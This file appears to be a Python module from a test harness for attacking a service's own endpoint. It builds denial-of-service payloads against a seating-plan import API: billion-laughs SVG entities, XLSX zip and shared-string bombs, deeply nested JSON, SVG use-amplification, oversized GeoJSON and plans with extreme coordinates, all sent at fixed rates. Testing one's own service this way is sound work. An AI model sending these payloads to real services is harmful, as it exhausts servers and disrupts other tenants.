"""Attacks by files of seating plans that are small to send, or quick to make, and costly to read."""

import io
import zipfile

import msgspec

from siege.attack import attack
from siege.attacker import Attacker

_PATH = "/v1/manage/venues/import"
_MIB = 1 << 20


@attack("5 requests a second of 1 kB")
async def svg_of_a_billion_laughs(attacker: Attacker) -> None:
    """Imports an SVG whose entities expand to a billion words."""
    entities = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
    text = f'<!DOCTYPE svg [<!ENTITY l0 "ha">{entities}]><svg><text>&l9;</text></svg>'
    await _import_at_rate(attacker, 5, text.encode())


@attack("1 request a second of 1 MB")
async def spreadsheet_of_zeros(attacker: Attacker) -> None:
    """Imports an XLSX whose sheet unpacks to 1 GB of zeros."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        with archive.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            for _ in range(1024):
                sheet.write(bytes(_MIB))
    await _import_at_rate(attacker, 1, content.getvalue())


@attack("1 request every 2 seconds of 32 MB")
async def svg_of_ten_million_nodes(attacker: Attacker) -> None:
    """Imports SVGs of scripts and nodes: eight million of them, and as many as are read."""
    many = b"<svg>" + b"<g/>" * 8_000_000 + b"</svg>"
    circles = b'<circle r="1"/>' * 590_000
    within_bounds = b"<svg><script>while(1){}</script>" + circles + b"</svg>"
    await _import_at_rate(attacker, 0.5, many, within_bounds)


@attack("2 requests a second of 8 MB")
async def plans_with_wild_coordinates(attacker: Attacker) -> None:
    """Imports plans of pretix with 50,000 seats at places such as 1e308, or all at one place."""
    await _import_at_rate(attacker, 2, _plan("1e308"), _plan("0"), _plan("NaN"))


@attack("1 request a second of 32 MB")
async def plans_of_brackets(attacker: Attacker) -> None:
    """Imports 32 MB of brackets, and JSON that is nested as deep as it is long."""
    await _import_at_rate(attacker, 1, b"[" * (32 * _MIB), b'{"zones":' * 3_000_000)


@attack("2 requests a second of 5 MB")
async def tables_of_seats_without_names(attacker: Attacker) -> None:
    """Imports tables with the most seats that are read, none of which has a name or a row."""
    lines = "".join(f"{number % 997},{number // 997}\n" for number in range(240_000))
    await _import_at_rate(attacker, 2, b"x,y\n" + lines.encode())


@attack("2 requests a second of 2 kB, of two tenants in turn")
async def svg_of_uses_that_multiply(attacker: Attacker) -> None:
    """Imports a drawing in which each group uses the one before ten times, nine groups deep.

    The file has a hundred elements and no entity. Each of its twenty seats is a billion circles: to know
    where a seat is, and how large, is to look at all of them.
    """
    uses = "".join(
        f'<g id="g{n}">' + f'<use href="#g{n - 1}" xlink:href="#g{n - 1}" x="{n}"/>' * 10 + "</g>"
        for n in range(1, 10)
    )
    seats = "".join(f'<use href="#g9" xlink:href="#g9" x="{30 * n}"/>' for n in range(20))
    text = (
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
        ' viewBox="0 0 400 240"><defs><g id="g0">'
        f'<circle id="A-1" r="8"/></g>{uses}</defs>{seats}</svg>'
    )
    await _import_at_rate(attacker, 2, text.encode(), of_two_tenants=True)


@attack("1 request every 2 seconds of 0.3 MB, of two tenants in turn")
async def workbook_of_one_shared_text(attacker: Attacker) -> None:
    """Imports a workbook whose 4.9 million cells all have the same text of 30,000 characters.

    It stays below the bounds of cells, of columns and of what is unpacked. Whoever copies the text into the
    cells needs 150 GB for it; whoever does not, five million references.
    """
    await _import_at_rate(attacker, 0.5, workbook(columns=1000, rows=4900), of_two_tenants=True)


@attack("1 request every 2 seconds of 12 MB, of two tenants in turn")
async def geojson_of_one_long_coast(attacker: Attacker) -> None:
    """Imports an area with 1.4 million corners, just below as many lists as are read.

    Each corner is a list of two numbers: twelve megabytes of text become hundreds. Two tenants do that at
    once.
    """
    corners = b",".join(b"[%d,%d]" % (number % 977, number % 983) for number in range(1_400_000))
    properties = b'{"kind":"standing","name":"Coast","capacity":9}'
    area = b'{"type":"Feature","geometry":{"type":"Polygon","coordinates":[[' + corners + b"]]},"
    file = b'{"type":"FeatureCollection","units":"m","features":[' + area + b'"properties":' + properties
    await _import_at_rate(attacker, 0.5, file + b"}]}", of_two_tenants=True)


def workbook(columns: int, rows: int) -> bytes:
    """Returns an XLSX of one sheet, all of whose cells refer to one text of 30,000 characters."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    documents = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    packages = "http://schemas.openxmlformats.org/package/2006"
    relationship = f'<Relationship Id="rId%d" Type="{documents}/%s" Target="%s"/>'
    row = b"<row>" + b'<c t="s"><v>0</v></c>' * columns + b"</row>"
    content_types = "".join(
        f'<Override PartName="/xl/{part}.xml" ContentType="application/'
        f'vnd.openxmlformats-officedocument.spreadsheetml.{kind}+xml"/>'
        for part, kind in (
            ("workbook", "sheet.main"),
            ("worksheets/sheet1", "worksheet"),
            ("sharedStrings", "sharedStrings"),
        )
    )
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": f'<Types xmlns="{packages}/content-types">{content_types}</Types>',
        "_rels/.rels": f'<Relationships xmlns="{packages}/relationships">'
        + relationship % (1, "officeDocument", "xl/workbook.xml")
        + "</Relationships>",
        "xl/workbook.xml": f'<workbook xmlns="{main}" xmlns:r="{documents}"><sheets>'
        '<sheet name="Hall" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": f'<Relationships xmlns="{packages}/relationships">'
        + relationship % (1, "worksheet", "worksheets/sheet1.xml")
        + relationship % (2, "sharedStrings", "sharedStrings.xml")
        + "</Relationships>",
        "xl/sharedStrings.xml": f'<sst xmlns="{main}"><si><t>{"a1 " * 10_000}</t></si></sst>',
        "xl/worksheets/sheet1.xml": f'<worksheet xmlns="{main}"><sheetData>'.encode()
        + row * rows
        + b"</sheetData></worksheet>",
    }
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, part in parts.items():
            archive.writestr(name, part)
    return content.getvalue()


async def _import_at_rate(
    attacker: Attacker, per_second: float, *files: bytes, of_two_tenants: bool = False
) -> None:
    """Imports one of the files after the other; of two tenants, each by both in turn."""
    keys = (attacker.task.key, attacker.task.second_key) if of_two_tenants else (attacker.task.key,)
    await attacker.begin()

    async def send(number: int) -> None:
        file, key = files[number // len(keys) % len(files)], keys[number % len(keys)]
        await attacker.send("POST", _PATH, file, key=key, media_type="application/octet-stream")

    await attacker.at_rate(per_second, send)


def _plan(coordinate: str) -> bytes:
    place = {"x": "@", "y": "@"}
    seat = {"seat_number": "1", "seat_guid": "g", "category": "a", "position": place}
    row = {"row_number": "1", "seats": [seat] * 50_000}
    zone = {"name": "Wild", "position": {"x": 0, "y": 0}, "rows": [row]}
    plan = msgspec.json.encode({"name": "Wild", "categories": [], "zones": [zone]})
    return plan.replace(b'"@"', coordinate.encode())
